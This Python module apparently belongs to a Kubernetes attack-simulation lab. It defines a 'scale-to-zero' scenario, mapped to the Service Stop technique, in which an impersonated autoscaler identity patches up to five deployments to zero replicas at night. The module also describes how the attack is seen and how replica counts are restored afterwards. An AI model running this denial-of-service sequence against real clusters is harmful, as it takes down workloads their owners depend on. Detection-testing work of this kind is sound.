"""Attack: workloads scaled to nothing by the autoscaler.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths, session, workloads

CARD = base.Card(
    id="scale-to-zero",
    title="Workloads scaled to nothing by the autoscaler",
    technique=base.Technique(id="T1489", name="Service Stop", tactic="Impact"),
    use_case=vocabulary.UseCase.IMPACT,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "With the autoscaler's token, address and client, scales several deployments to zero at night, as it "
        "might after a quiet day."
    ),
    seen_by="Scaling to nothing; for this identity, workloads it never scaled so low, one after the other.",
    cleans_up="The numbers of replicas are patched back.",
    victim=base.Part.AUTOSCALER,
    reach=base.Reach.CLUSTER,
    when=base.When.NIGHT,
    catalogues=("Microsoft: Denial of service",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.AUTOSCALER, able=("PATCH", paths.group("apps/v1", "deployments", "", "a", "scale")))
    thief = ctx.act_as(victim)
    doomed = [found for space in ctx.namespaces() for found in ctx.known(paths.group("apps/v1", "deployments", space))]
    ctx.rng.shuffle(doomed)
    for namespace, name in doomed[:5]:
        path = paths.group("apps/v1", "deployments", namespace, name, "scale")
        replicas = workloads.replicas(ctx.read(path).body)
        ctx.restore_later(path, {"spec": {"replicas": replicas}})
        yield thief.patch(path, {"spec": {"replicas": 0}}, content_type=session.MERGE_PATCH)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
